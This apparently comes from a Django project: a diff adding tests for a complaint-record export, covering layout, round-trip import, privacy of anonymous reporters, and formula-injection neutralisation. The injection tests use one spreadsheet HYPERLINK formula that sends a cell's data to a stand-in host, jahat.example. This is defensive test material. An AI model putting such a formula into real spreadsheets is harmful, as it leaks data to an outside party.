@@ -1,0 +1,188 @@
+"""Exporting in the SP4N-LAPOR! layout: same columns, round trip, formula injection, privacy."""
+
+import csv
+import io
+
+import openpyxl
+from django.urls import reverse
+
+from lapor import columns as c
+from lapor import sample
+from lapor.importer import run_import
+from lapor.models import LaporRecord
+from reports.models import IdentityRead, Report
+from tests.test_lapor_import import LaporImportCase
+
+INJECTION = '=HYPERLINK("http://jahat.example/curi?d="&A1,"Klik")'
+
+
+class ExportCase(LaporImportCase):
+    def export(self, user, fmt="xlsx", **params):
+        self.login(user)
+        query = {"received_from": "2025-01-01", "received_to": "2026-12-31", "format": fmt, **params}
+        response = self.client.get(reverse("lapor:export"), query)
+        self.assertEqual(response.status_code, 200)
+        return response
+
+    def xlsx_rows(self, response):
+        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
+        return list(workbook.worksheets[0].iter_rows(values_only=True)), workbook
+
+    def table(self, rows):
+        start = next(i for i, row in enumerate(rows) if row and row[0] == "Tracking ID")
+        header = rows[start]
+        return [dict(zip(header, row, strict=False)) for row in rows[start + 1 :]]
+
+
+class LayoutTests(ExportCase):
+    def test_xlsx_has_information_rows_then_the_national_header(self):
+        run_import(self.xlsx([sample.row(1001)]), dry_run=False)
+        rows, _ = self.xlsx_rows(self.export(self.coordinator))
+        header_at = next(i for i, row in enumerate(rows) if row and row[0] == "Tracking ID")
+        self.assertGreater(header_at, 0)
+        self.assertEqual(list(rows[header_at]), c.COLUMNS)
+        line = self.table(rows)[0]
+        self.assertEqual(line[c.TRACKING_ID], "1001")
+        self.assertEqual((line[c.DATE], line[c.TIME]), ("3 Jan 2026", "14:05:33"))
+        self.assertEqual(line[c.STATUS], "Terdisposisi ke Dinas Perhubungan")
+
+    def test_csv_has_the_same_layout(self):
+        run_import(self.xlsx([sample.row(1002)]), dry_run=False)
+        response = self.export(self.coordinator, fmt="csv")
+        text = response.content.decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text)))
+        self.assertEqual(self.table(rows)[0][c.TRACKING_ID], "1002")
+        self.assertIn(c.COLUMNS, rows)
+
+    def test_export_round_trips_through_import(self):
+        rows = list(sample.random_rows(40, start_id=500))
+        run_import(self.xlsx(rows), dry_run=False)
+        count = Report.objects.count()
+        for fmt in ("xlsx", "csv"):
+            response = self.export(self.coordinator, fmt=fmt)
+            path = self.tmp(f"back.{fmt}")
+            path.write_bytes(response.content)
+            before = {r.tracking_id: r.row_data for r in LaporRecord.objects.all()}
+            outcome = run_import(path, dry_run=False)
+            after = {r.tracking_id: r.row_data for r in LaporRecord.objects.all()}
+            diffs = {
+                k: {n: (before[k][n], after[k][n]) for n in after[k] if before[k][n] != after[k][n]} for k in after
+            }
+            self.assertEqual({k: v for k, v in diffs.items() if v}, {}, fmt)
+            self.assertEqual((len(outcome.created), len(outcome.updated), outcome.rejected_count), (0, 0, 0), fmt)
+            self.assertEqual(len(outcome.unchanged), count)
+        self.assertEqual(Report.objects.count(), count)
+
+    def test_an_aduan_report_is_exported_with_its_own_number_and_not_imported_back_as_new(self):
+        report = self.make_report(title="Dari portal")
+        rows, _ = self.xlsx_rows(self.export(self.coordinator))
+        line = self.table(rows)[0]
+        self.assertEqual(
+            (line[c.TRACKING_ID], line[c.SOURCE], line[c.STATUS]),
+            (report.tracking_number, "Aduan", "Belum Terverifikasi"),
+        )
+        path = self.tmp("back.xlsx")
+        path.write_bytes(self.export(self.coordinator).content)
+        outcome = run_import(path, dry_run=False)
+        self.assertEqual(outcome.rejected_count, 1)
+        self.assertEqual(Report.objects.count(), 1)
+
+    def test_period_selection(self):
+        run_import(self.xlsx([sample.row(1101), sample.row(1102, **{c.DATE: "5 Mar 2025"})]), dry_run=False)
+        rows, _ = self.xlsx_rows(self.export(self.coordinator, received_from="2026-01-01", received_to="2026-01-31"))
+        self.assertEqual([line[c.TRACKING_ID] for line in self.table(rows)], ["1101"])
+
+
+class FormulaInjectionTests(ExportCase):
+    def test_formula_cells_are_neutralised_in_xlsx_and_csv(self):
+        values = sample.row(2001, **{c.TITLE: INJECTION, c.TEXT_FINAL: "+62 812 lampu", c.REPORTER_NAME: "@budi"})
+        run_import(self.xlsx([values]), dry_run=False)
+        report = LaporRecord.objects.get(tracking_id="2001").report
+        self.assertEqual(report.title, INJECTION[:200])  # stored as the text it is
+
+        rows, workbook = self.xlsx_rows(self.export(self.coordinator))
+        line = self.table(rows)[0]
+        self.assertEqual(line[c.TITLE], "'" + INJECTION)
+        self.assertEqual(line[c.TEXT_FINAL], "'+62 812 lampu")
+        self.assertEqual(line[c.REPORTER_NAME], "'@budi")
+        for row in workbook.worksheets[0].iter_rows():
+            for cell in row:
+                self.assertNotEqual(cell.data_type, "f", cell.value)
+
+        text = self.export(self.coordinator, fmt="csv").content.decode("utf-8-sig")
+        self.assertNotIn(",=HYPERLINK", text)
+        self.assertIn("'=HYPERLINK", text)
+
+    def test_a_neutralised_export_imports_back_to_the_same_text(self):
+        run_import(self.xlsx([sample.row(2002, **{c.TITLE: INJECTION})]), dry_run=False)
+        path = self.tmp("back.xlsx")
+        path.write_bytes(self.export(self.coordinator).content)
+        outcome = run_import(path, dry_run=False)
+        self.assertEqual(len(outcome.unchanged), 1)
+        self.assertEqual(LaporRecord.objects.get(tracking_id="2002").report.title, INJECTION)
+
+
+class PrivacyTests(ExportCase):
+    def setUp(self):
+        rows = [
+            sample.row(3001, **{c.REPORTER_NAME: "Rahmat Anonim", c.TYPE: "Anonim"}),  # to Dishub
+            sample.row(3002, **{c.REPORTER_NAME: "Dewi Terbuka", c.AGENCY_ID: "9002", c.AGENCY: "DPUPR"}),
+            sample.row(
+                3003, **{c.REPORTER_NAME: "Sari Anonim", c.TYPE: "Anonim", c.AGENCY_ID: "9002", c.AGENCY: "DPUPR"}
+            ),
+        ]
+        run_import(self.xlsx(rows), dry_run=False)
+
+    def ids(self, response):
+        rows, _ = self.xlsx_rows(response)
+        return {line[c.TRACKING_ID]: line for line in self.table(rows)}
+
+    def test_an_agency_exports_only_what_was_disposed_to_it(self):
+        lines = self.ids(self.export(self.pw_liaison))
+        self.assertEqual(set(lines), {"3002", "3003"})
+        # Another agency cannot be chosen: the form refuses it and no file is sent.
+        response = self.export(self.pw_liaison, agency=self.transport.pk)
+        self.assertEqual(response["Content-Type"], "text/html; charset=utf-8")
+        self.assertTrue(response.context["form"].errors["agency"])
+        self.assertNotIn("3001", response.content.decode())
+
+    def test_an_anonymous_reporter_is_never_exported_to_an_agency(self):
+        lines = self.ids(self.export(self.pw_liaison))
+        self.assertEqual(lines["3003"][c.REPORTER_NAME], "Anonim")
+        self.assertEqual(lines["3002"][c.REPORTER_NAME], "Dewi Terbuka")
+        csv_text = self.export(self.pw_liaison, fmt="csv").content.decode("utf-8-sig")
+        self.assertNotIn("Sari Anonim", csv_text)
+        self.assertNotIn("Rahmat Anonim", csv_text)
+
+    def test_the_coordinator_exports_every_name_and_each_read_is_audited(self):
+        before = IdentityRead.objects.filter(user=self.coordinator).count()
+        lines = self.ids(self.export(self.coordinator))
+        self.assertEqual(lines["3001"][c.REPORTER_NAME], "Rahmat Anonim")
+        self.assertEqual(IdentityRead.objects.filter(user=self.coordinator).count() - before, 3)
+
+    def test_agency_filter_for_the_coordinator(self):
+        lines = self.ids(self.export(self.coordinator, agency=self.transport.pk))
+        self.assertEqual(set(lines), {"3001"})
+
+    def test_someone_without_an_appointment_exports_nothing(self):
+        self.login(self.outsider)
+        response = self.client.get(reverse("lapor:export"), {"format": "csv"})
+        self.assertEqual(response.status_code, 403)
+
+
+class ExportQueryTests(ExportCase):
+    def test_query_count_does_not_grow_with_rows(self):
+        run_import(self.xlsx(list(sample.random_rows(5, start_id=100))), dry_run=False)
+        self.login(self.coordinator)
+        query = {"received_from": "2025-01-01", "received_to": "2026-12-31", "format": "csv"}
+        small = self._queries(query)
+        run_import(self.xlsx(list(sample.random_rows(30, start_id=200))), dry_run=False)
+        self.assertEqual(self._queries(query), small)
+
+    def _queries(self, query):
+        from django.db import connection
+        from django.test.utils import CaptureQueriesContext
+
+        with CaptureQueriesContext(connection) as ctx:
+            self.client.get(reverse("lapor:export"), query)
+        return len(ctx.captured_queries)
